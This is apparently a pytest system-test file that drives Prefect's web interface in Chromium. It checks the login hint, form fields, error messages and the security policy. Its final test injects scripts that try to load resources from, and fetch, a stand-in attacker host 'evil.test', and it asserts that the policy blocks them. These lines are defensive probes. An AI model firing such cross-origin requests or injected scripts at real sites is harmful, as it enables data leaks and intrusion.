"""Prefect's pages in Chromium: requests, security policy, login hint and forms.

`make test-system` runs it; what is missing fails it. Both interfaces are opened, page by page.
"""

import base64
import json
import re
import urllib.parse
import urllib.request
from collections.abc import Iterator

import pytest

from tests.project_copy import copy_project
from tests.system.browser import open_browser, requested_urls, wait_until
from tests.system.served import RunningServer, run_server

pytestmark = pytest.mark.system

BASE = {"v1": "", "v2": "/v2"}
PAGES = {  # path -> what it shows
    "dashboard": "Dashboard",
    "runs": "rerank-sql",
    "flows": "rerank-fit",
    "deployments": "rerank-fit",
    "work-pools": "Work Pools",
    "blocks/catalog": "AWS",
    "variables": "Variables",
    "automations": "Automations",
    "automations/create": "Automations",
    "events": "Event",
    "artifacts": "Artifacts",
    "concurrency-limits": "Concurrency",
    "settings": "Settings",
}


@pytest.fixture(scope="module")
def served(tmp_path_factory) -> Iterator[RunningServer]:
    project = tmp_path_factory.mktemp("project")
    copy_project(project)
    with run_server(project) as running:
        yield running


@pytest.fixture(scope="module")
def run_id(served) -> str:
    """Identifier of a run that has ended; its page shows a graph."""
    secret = base64.b64encode(served.secret.encode()).decode()
    request = urllib.request.Request(
        f"{served.address}/api/deployments/{served.find_deployment_id('rerank-sql')}/create_flow_run",
        data=json.dumps({"parameters": {"map_file": "none.json"}}).encode(),
        headers={"content-type": "application/json", "authorization": f"Basic {secret}"},
    )
    with urllib.request.urlopen(request, timeout=10) as answer:
        new_run = json.load(answer)["id"]
    wait_until(lambda: {run["id"]: run["state_type"] for run in served.list_runs("rerank-sql")}[new_run] == "FAILED")
    return new_run


class Visitor:
    """A new browser, in one of the two interfaces."""

    def __init__(self, driver, served: RunningServer, interface: str) -> None:
        self.driver = driver
        self.served = served
        self.base = BASE[interface]
        driver.get(f"{served.address}/ui-settings")
        driver.add_cookie({"name": "prefect_ui_version", "value": interface})
        driver.get_log("performance")  # requests of Chromium at its start
        driver.get_log("browser")

    @property
    def text(self) -> str:
        return self.driver.find_element("tag name", "body").text

    def open(self, path: str, shown: str) -> None:
        self.driver.get(f"{self.served.address}{self.base}/{path}")
        wait_until(lambda: shown in self.text)
        self.driver.execute_async_script("const done = arguments[0]; requestIdleCallback(() => setTimeout(done, 1000))")

    def enter(self) -> None:
        field = self.driver.find_element("css selector", "input[type=password]")
        field.send_keys(self.served.secret + "\ue007")  # Enter
        wait_until(lambda: "Dashboard" in self.text)

    def violations(self) -> list[str]:
        messages = [entry["message"] for entry in self.driver.get_log("browser")]
        words = ("violates", "Content Security Policy", "unsafe-eval", "was not explicitly set", "ERR_NAME")
        pattern = re.compile("|".join(map(re.escape, words)))
        return [message for message in messages if pattern.search(message)]

    def hosts(self) -> set[str]:
        return {urllib.parse.urlsplit(url).netloc for url in requested_urls(self.driver) if url.startswith("http")}


@pytest.fixture(params=BASE)
def visitor(request, served, tmp_path) -> Iterator[Visitor]:
    with open_browser(tmp_path / "browser") as driver:
        yield Visitor(driver, served, request.param)
        driver.save_screenshot(tmp_path / "last.png")


def test_the_login_page_shows_the_hint_and_no_page_contacts_other_servers(visitor, served, run_id):
    visitor.open("login", "Login")
    hint = wait_until(lambda: visitor.driver.find_element("id", "secret-hint"))
    assert hint.text == "Enter the secret: the content of the file data/.state/secret in this project's folder."
    assert visitor.driver.find_element("css selector", "input[type=password]").get_attribute("placeholder") == "secret"
    visitor.enter()
    wait_until(lambda: not visitor.driver.find_elements("id", "secret-hint"))
    visitor.open(f"runs/flow-run/{run_id}", "sql/duckdb")
    wait_until(lambda: visitor.driver.find_elements("css selector", "canvas"))  # its graph, which needs 'unsafe-eval'
    for path, shown in PAGES.items():
        visitor.open(path, shown)
    for name in ("rerank-fit", "rerank-thresholds", "reliability", "refresh"):
        visitor.open(f"deployments/deployment/{served.find_deployment_id(name)}/run", name)
    assert visitor.violations() == []
    assert visitor.hosts() == {urllib.parse.urlsplit(served.address).netloc}


def test_forms_describe_their_fields_and_offer_no_null(visitor, served):
    visitor.open("login", "Login")
    visitor.enter()
    for name in ("rerank-fit", "rerank-thresholds", "reliability", "refresh"):
        visitor.open(f"deployments/deployment/{served.find_deployment_id(name)}/run", "Submit")
        assert "Property is type" not in visitor.text
        if name.startswith("rerank"):
            wait_until(lambda: "A path on the server" in visitor.text)
            assert "relative to the served folder" in visitor.text
            assert "How the file is read: Column with the true label." in visitor.text


def test_empty_fields_are_omitted_and_errors_name_fields(visitor, served):
    (served.project / "rows.csv").write_text("gold,decision,confidence\na,a,0.5\nb,a,0.6\n")
    visitor.open("login", "Login")
    visitor.enter()
    before = {run["id"] for run in served.list_runs("rerank-fit")}
    visitor.open(f"deployments/deployment/{served.find_deployment_id('rerank-fit')}/run", "Submit")
    fields = wait_until(lambda: visitor.driver.find_elements("css selector", "main textarea, form textarea"))
    for field, value in zip(fields, ("rows.csv", "map.json"), strict=False):
        field.send_keys(value)
    submit = visitor.driver.find_elements("xpath", "//button[normalize-space()='Submit']")[-1]
    visitor.driver.execute_script("arguments[0].scrollIntoView({block: 'center'})", submit)
    submit.click()

    def ended() -> dict | None:
        new_runs = [run for run in served.list_runs("rerank-fit") if run["id"] not in before]
        return next((run for run in new_runs if run["state_type"] == "FAILED"), None)

    run = wait_until(ended)
    assert {name: run["parameters"][name] for name in ("predictions", "out")} == {
        "predictions": "rows.csv",
        "out": "map.json",
    }
    assert None not in run["parameters"].values()
    assert "name yours: label = gold" in run["state"]["message"]
    assert "--" not in run["state"]["message"]


def test_a_page_can_neither_send_nor_load_from_other_servers(visitor):
    visitor.open("login", "Login")
    script = """
        const done = arguments[0];
        const image = new Image();
        image.src = "http://evil.test/a.png";
        image.setAttribute("src", "http://evil.test/b.png");
        const script = document.createElement("script");
        script.src = "http://evil.test/c.js";
        script.onerror = () => fetch("http://evil.test/d").catch(() => done(image.src));
        document.head.append(script);
    """
    assert visitor.driver.execute_async_script(script) == ""
    inline = "const script = document.createElement('script'); script.text = 'window.ran = 1';"
    assert visitor.driver.execute_script(f"{inline} document.head.append(script); return window.ran") is None
